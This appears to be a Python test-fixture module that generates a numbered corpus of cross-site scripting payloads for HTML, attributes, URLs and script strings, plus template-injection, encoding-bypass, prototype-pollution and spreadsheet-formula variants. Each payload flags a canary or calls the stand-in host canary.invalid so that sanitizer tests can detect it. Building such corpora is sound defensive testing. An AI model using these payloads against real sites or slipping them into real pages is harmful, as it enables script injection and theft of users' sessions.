"""Texts that run where a screen takes them for HTML, an attribute, an address or a script; each tells its number.

A text sets ``window.hacked``, opens a dialog or asks ``CANARY``. ``¤`` is where it does, ``§`` its number. ``tests/test_hostile.py``
holds that every text which is listed by its place really runs when it is put there.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import count
from typing import Literal

CANARY = "canary.invalid"
# What a text does; the one most common stands first. None has a blank, a quote or a bracket that would end it early.
_ACTS = ("window.hacked=§", "top.hacked=§", "alert(§)", "self[`hacked`]=§", f"fetch(`//{CANARY}/§`)", "prompt(§)")

# Where innerHTML is given them. The first three are what the other tests know by their place.
_HTML = (
    """
<img src=x onerror=¤>
<details open ontoggle=¤>x</details>
<IMG SRC=x ONERROR=¤>
<img/src="x"/onerror=¤>
<img src=x onerror="¤">
<img src=x onerror='¤'>
<img	src=x	onerror=¤>
<img src onerror=¤>
<img srcset=x onerror=¤>
<img src=data:, onerror=¤>
<img src=x onerror=&#x28;function(){¤}()&#x29;>
<img src=x onerror=&NewLine;¤>
<img """
    '""'
    + """><img src=x onerror=¤>
<<img src=x onerror=¤>
</div></td></li></p><img src=x onerror=¤>
<image src=x onerror=¤>
<svg><image href=x onerror=¤></image></svg>
<svg><animate attributeName=x dur=1s onbegin=¤></animate></svg>
<svg><set attributeName=x dur=1s onbegin=¤></set></svg>
<svg><style><img src=x onerror=¤></style></svg>
<svg><desc><img src=x onerror=¤></desc></svg>
<svg><foreignObject><img src=x onerror=¤></foreignObject></svg>
<math><mtext><img src=x onerror=¤></mtext></math>
<math><mtext></p><img src=x onerror=¤></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=¤></annotation-xml></math>
<video src=x onerror=¤></video>
<video><source src=x onerror=¤></video>
<audio src=x onerror=¤></audio>
<object data=data:text/html,x onload=¤></object>
<embed src=data:text/html,x onload=¤>
<iframe onload=¤></iframe>
<iframe srcdoc="<script>parent.hacked=§</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.hacked=§&gt;"></iframe>
<iframe src="javascript:parent.hacked=§"></iframe>
<iframe src="java&Tab;script:parent.hacked=§"></iframe>
<iframe src="&#1;javascript:parent.hacked=§"></iframe>
<style onload=¤>x{}</style>
<link rel=stylesheet href=data:, onload=¤>
<input type=image src=x onerror=¤>
<table background=x><tr><td><img src=x onerror=¤></td></tr></table>
<noscript><p title="</noscript><img src=x onerror=¤>"></p></noscript>
<title><a title="</title><img src=x onerror=¤>"></a></title>
<xmp><p title="</xmp><img src=x onerror=¤>"></p></xmp>
<!--><img src=x onerror=¤>-->
<!--x--!><img src=x onerror=¤>
<![CDATA[><img src=x onerror=¤>]]>
<?xml ?><img src=x onerror=¤>
<select><option><img src=x onerror=¤></option></select><img src=x onerror=¤>
<custom-element onmouseover=¤>x</custom-element>
<input autofocus onfocus=¤>
<b tabindex=0 onfocus=¤>x</b>
<b contenteditable onfocus=¤>x</b>
<a onmouseover=¤>x</a>
<a onmouseenter=¤>x</a>
<b onmousemove=¤>x</b>
<b onmouseout=¤>x</b>
<b onpointerenter=¤>x</b>
<b onpointerover=¤>x</b>
<b onpointermove=¤>x</b>
<b onwheel=¤>x</b>
<b oncontextmenu=¤>x</b>
<b onkeydown=¤>x</b>
<b onscroll=¤>x</b>
<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=¤>x</b>
<a href="javascript:¤">x</a>
<a href="JaVaScRiPt:¤">x</a>
<a href="java&Tab;script:¤">x</a>
<a href="java&#10;script:¤">x</a>
<a href="&#106;avascript:¤">x</a>
<a href="javascript&colon;¤">x</a>
<a href="&#2;javascript:¤">x</a>
<a href=" javascript:¤">x</a>
<a href="javascript:%0a¤">x</a>
<a href="javascript://%0a¤">x</a>
<svg><a href="javascript:¤"><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:¤"><text y=20>x</text></a></svg>
<form action="javascript:¤"><button>x</button></form>
<form><button formaction="javascript:¤">x</button></form>
<form><input type=submit formaction="javascript:¤"></form>
<form><input type=image formaction="javascript:¤" alt=x></form>
<img src=//~/§>
<img srcset=//~/§>
<svg><image href=//~/§></image></svg>
<video poster=//~/§></video>
<audio src=//~/§></audio>
<object data=//~/§></object>
<embed src=//~/§>
<iframe src=//~/§></iframe>
<input type=image src=//~/§>
<link rel=stylesheet href=//~/§>
<link rel=preload as=script href=//~/§>
<style>@import '//~/§';</style>
<b style="background:url(//~/§)">x</b>
<table background=//~/§></table>
""".replace("~", CANARY)
)

# Where a whole document is made of them: as above, and elements of script run, too.
_DOCUMENT = """
<svg/onload=¤>
<script>top.hacked=§</script>
<SCRIPT>top.hacked=§</SCRIPT>
<script >top.hacked=§</script >
<script/x>top.hacked=§</script>
<script	type=text/javascript>top.hacked=§</script>
<script type=module>top.hacked=§</script>
<script src=data:text/javascript,top.hacked=§></script>
<script src=//~/§></script>
<svg><script>top.hacked=§</script></svg>
<svg><script>top&#46;hacked=§</script></svg>
<svg><script href=data:text/javascript,top.hacked=§></script></svg>
</title><script>top.hacked=§</script>
</textarea><script>top.hacked=§</script>
</style><script>top.hacked=§</script>
</noscript><script>top.hacked=§</script>
</script><script>top.hacked=§</script>
--><script>top.hacked=§</script>
]]><script>top.hacked=§</script>
<script>/*<!--*/top.hacked=§</script>
<body onload=top.hacked=§>
<body onpageshow=top.hacked=§>
</title></textarea></style></noscript></script></template><svg/onload=top.hacked=§>
""".replace("~", CANARY)

# Where they stand between the quotes of an attribute.
_ATTRIBUTE = """
"><img src=x onerror=¤>
'><img src=x onerror=¤>
" autofocus onfocus=¤ x="
' autofocus onfocus=¤ x='
" onmouseover="¤
' onmouseover='¤
"onmouseover=¤//
" tabindex=0 onpointerover=¤ "
x onmouseover=¤
x><img src=x onerror=¤>
"><iframe srcdoc='<script>parent.hacked=§</script>'></iframe>
"></title></textarea></style><img src=x onerror=¤>
"""

# Where a link leads to them.
_ADDRESS = """
javascript:¤
JavaScript:¤
JAVASCRIPT:¤//
javascript:¤//https://example.com
javascript://example.com/%0A¤
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+(¤)//'>
	javascript:¤
java	script:¤
javascript:void(¤)
javascript:%77indow.hacked=§
//~/§
https://~/§
/\\~/§
\\\\~/§
""".replace("~", CANARY)

# Where they stand between the quotes of a script.
_SCRIPT = """
';¤//
";¤//
`;¤//
'-(¤)-'
"-(¤)-"
`-(¤)-`
${¤}
'+(¤)+'
';¤;'
"]};¤//
');¤//
");¤//
"""

# What only other programs would run, or what filters that decode once too often let through.
_ELSEWHERE = """
<img src='//~/§?
\\';¤//
\\";¤//
{{constructor.constructor('¤')()}}
{{$on.constructor('¤')()}}
[[${T(java.lang.Runtime)}]]
{{config.__class__.__init__.__globals__}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
<%= ¤ %>
#{¤}
*{¤}
[x](javascript:¤)
![x](x"onerror="¤)
[x]: javascript:¤
<javascript:¤>
&lt;img src=x onerror=¤&gt;
&amp;lt;img src=x onerror=¤&amp;gt;
%3Cimg%20src%3Dx%20onerror%3D¤%3E
%253Cimg%2520src%253Dx%2520onerror%253D¤%253E
\\u003cimg src=x onerror=¤\\u003e
\\x3cimg src=x onerror=¤\\x3e
\\74img src=x onerror=¤\\76
+ADw-script+AD4-¤+ADw-/script+AD4-
＜img src=x onerror=¤＞
‹img src=x onerror=¤›
<im\u200bg src=x onerror=¤>
<\u202eimg src=x onerror=¤>
\ufeff<xss onafterscriptexecute=¤>
<scr<script>ipt>¤</scr</script>ipt>
<b style="x:expression(¤)">x</b>
<b style="-moz-binding:url(//~/§)">x</b>
<bgsound src=javascript:¤>
<img dynsrc=javascript:¤>
<img lowsrc=javascript:¤>
<layer src=//~/§></layer>
<xml><i><![CDATA[<img src=x onerror=¤>]]></i></xml>
<div datasrc=#x datafld=¤></div>
vbscript:¤
livescript:¤
mocha:¤
data:text/html,<script>¤</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
{"__proto__":{"innerHTML":"<img src=x onerror=¤>"}}
__proto__[srcdoc]=<script>¤</script>
"}]}</script><script>¤</script>
=HYPERLINK("javascript:¤","x")
""".replace("~", CANARY)

Place = Literal["html", "document", "attribute", "address", "script", "elsewhere"]


@dataclass(frozen=True, slots=True)
class Attack:
    """``number`` is what the text tells when it runs, ``place`` where it would."""

    number: int
    text: str
    place: Place


def _listed() -> tuple[Attack, ...]:
    places: dict[Place, str] = {
        "html": _HTML,
        "document": _DOCUMENT,
        "attribute": _ATTRIBUTE,
        "address": _ADDRESS,
        "script": _SCRIPT,
        "elsewhere": _ELSEWHERE,
    }
    numbers, made = count(1), []
    for place, lines in places.items():
        for line in lines.strip("\n").splitlines():
            number = next(numbers)
            act = _ACTS[number % 12 // 2] if number > 3 and number % 2 == 0 else _ACTS[0]
            made.append(Attack(number, line.replace("¤", act).replace("§", str(number)), place))
    return tuple(made)


LISTED = _listed()
ATTACKS = tuple(attack.text for attack in LISTED)
